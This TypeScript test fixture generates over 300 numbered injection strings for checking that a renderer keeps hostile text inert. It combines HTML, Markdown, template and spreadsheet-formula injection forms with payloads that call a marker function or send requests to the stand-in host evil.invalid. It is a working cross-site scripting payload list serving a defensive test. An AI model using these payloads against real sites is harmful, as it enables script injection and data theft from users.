/**
 * Texts that would run a script, load something or navigate if they ever became more than text. They combine every injection with every
 * payload; each is one line with its number, so that a finding identifies it.
 */

/** Payloads: the test detects calls of `pwned` and requests to `evil.invalid`. */
const payloads = [
  (n: number) => `pwned(${n})`,
  (n: number) => `top.pwned&&top.pwned(${n})`,
  (n: number) => `fetch('//evil.invalid/${n}')`,
  (n: number) => `location='//evil.invalid/${n}'`,
];

/** Injections into HTML. */
const markup: ((payload: string) => string)[] = [
  (payload) => `<script>${payload}</script>`,
  (payload) => `"><script>${payload}</script>`,
  (payload) => `</script><script>${payload}//`,
  (payload) => `</title></textarea></style><script>${payload}</script>`,
  (payload) => `<img src=x onerror="${payload}">`,
  (payload) => `<img src=x onerror=${payload}//`,
  (payload) => `'><img src=x onerror='${payload}'>`,
  (payload) => `<svg onload="${payload}">`,
  (payload) => `<svg><script>${payload}</script></svg>`,
  (payload) => `<svg><animate onbegin="${payload}" attributeName=x dur=1s>`,
  (payload) => `<svg><foreignObject><iframe srcdoc="<script>${payload}</script>">`,
  (payload) => `<math><mtext><table><mglyph><style><img src=x onerror="${payload}">`,
  (payload) => `<body onload="${payload}">`,
  (payload) => `<details open ontoggle="${payload}">`,
  (payload) => `<input autofocus onfocus="${payload}">`,
  (payload) => `<video><source onerror="${payload}">`,
  (payload) => `<audio src=x onerror="${payload}">`,
  (payload) => `<iframe srcdoc="<script>parent.${payload}</script>">`,
  (payload) => `<iframe src="javascript:${payload}">`,
  (payload) => `<object data="javascript:${payload}">`,
  (payload) => `<embed src="javascript:${payload}">`,
  (payload) => `<a href="javascript:${payload}">click</a>`,
  (payload) => `<form action="javascript:${payload}"><button>go`,
  (payload) => `<base href="//evil.invalid/"><script src=x></script><i>${payload}</i>`,
  (payload) => `<meta http-equiv=refresh content="0;url=javascript:${payload}">`,
  (payload) => `<style>@import '//evil.invalid/a.css';</style><b>${payload}</b>`,
  (payload) => `<link rel=stylesheet href="//evil.invalid/b.css"><b>${payload}</b>`,
  (payload) => `<template><script>${payload}</script></template>`,
  (payload) => `<noscript><p title="</noscript><img src=x onerror='${payload}'>">`,
  (payload) => `<div style="background:url(//evil.invalid/c.png)">${payload}</div>`,
  (payload) => `<xmp><p title="</xmp><svg/onload=${payload}>">`,
  (payload) => `<a id=x tabindex=1 onfocus=${payload}></a>`,
  (payload) => `<marquee onstart="${payload}">`,
  (payload) => `<isindex type=image src=1 onerror="${payload}">`,
  (payload) => `&lt;script&gt;${payload}&lt;/script&gt;`,
  (payload) => `&#60;img src=x onerror=${payload}&#62;`,
  (payload) => `\\u003cscript\\u003e${payload}\\u003c/script\\u003e`,
  (payload) => `%3Cscript%3E${payload}%3C/script%3E`,
  (payload) => `<scr<script>ipt>${payload}</scr</script>ipt>`,
  (payload) => `<ScRiPt\t>${payload}</sCrIpT\n>`.replace('\n', ''),
  (payload) => `<img/src=x/onerror=${payload}>`,
  (payload) => `\u0000<script>${payload}</script>`,
];

/** Injections into Markdown: links, images and markup. */
const markdown: ((payload: string) => string)[] = [
  (payload) => `[a](javascript:${payload})`,
  (payload) => `[a](JaVaScRiPt:${payload})`,
  (payload) => `[a](java\tscript:${payload})`,
  (payload) => `[a](javascript&colon;${payload})`,
  (payload) => `[a](&#106;avascript:${payload})`,
  (payload) => `[a](<javascript:${payload}>)`,
  (payload) => `[a](vbscript:${payload})`,
  (payload) => `[a](data:text/html,<script>${payload}</script>)`,
  (payload) => `[a](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+ "${payload}")`,
  (payload) => `[a](https://evil.invalid/?q=1 "x" onmouseover="${payload}")`,
  (payload) => `[a](file:///etc/passwd#${payload})`,
  (payload) => `[a](smb://evil.invalid/${payload})`,
  (payload) => `[a](ms-msdt:/id PCWDiagnostic ${payload})`,
  (payload) => `[a](https://user:pass@evil.invalid/${payload})`,
  (payload) => `![p](https://evil.invalid/p.png "${payload}")`,
  (payload) => `![p](javascript:${payload})`,
  (payload) => `![p](x" onerror="${payload})`,
  (payload) => `![p](data:image/svg+xml,<svg onload=${payload}>)`,
  (payload) => `<javascript:${payload}>`,
  (payload) => `<https://evil.invalid/${payload}>`,
  (payload) => `https://evil.invalid/"onmouseover="${payload}`,
  (payload) => `[r][1] [1]: javascript:${payload}`,
  (payload) => `\`\`\`html <script>${payload}</script> \`\`\``,
  (payload) => `| <img src=x onerror=${payload}> |`,
  (payload) => `# <svg onload=${payload}>`,
  (payload) => `> <iframe src=javascript:${payload}>`,
  (payload) => `- [ ] <input onfocus=${payload} autofocus>`,
  (payload) => `$$\\href{javascript:${payload}}{x}$$`,
  (payload) => `\`\`\`mermaid graph TD; A-->B; click A "javascript:${payload}" \`\`\``,
];

/** Injections into templates, document formats and names. */
const programs: ((payload: string) => string)[] = [
  (payload) => `{{constructor.constructor('${payload}')()}}`,
  (payload) => `\${${payload}}`,
  (payload) => `#{${payload}}`,
  (payload) => `<%= ${payload} %>`,
  (payload) => `{process.exit()}{${payload}}`,
  (payload) => `import x from 'https://evil.invalid/x.js'; export default () => ${payload}`,
  (payload) => `javascript:${payload}`,
  (payload) => `data:text/html,<script>${payload}</script>`,
  (payload) => `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${payload}>"}}}`,
  (payload) => `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${payload}"}}`,
  (payload) => `[{"role":"user","content":[{"type":"text","text":"<img src=x onerror=${payload}>"}]}]`,
  (payload) => `{"type":"media","mimeType":"text/html","sha256":"${'a'.repeat(64)}","url":"javascript:${payload}"}`,
  (payload) => `{"type":"media","mimeType":"image/svg+xml","url":"//evil.invalid/${payload}.svg"}`,
  (payload) => `=HYPERLINK("https://evil.invalid/${payload}")`,
];

const injections = [...markup, ...markdown, ...programs];

/** At least 300, all different. */
export const hostileTexts: readonly string[] = payloads.flatMap((payload, d) =>
  injections.map((inject, w) => `${inject(payload(d * injections.length + w))} #${d * injections.length + w}`),
);
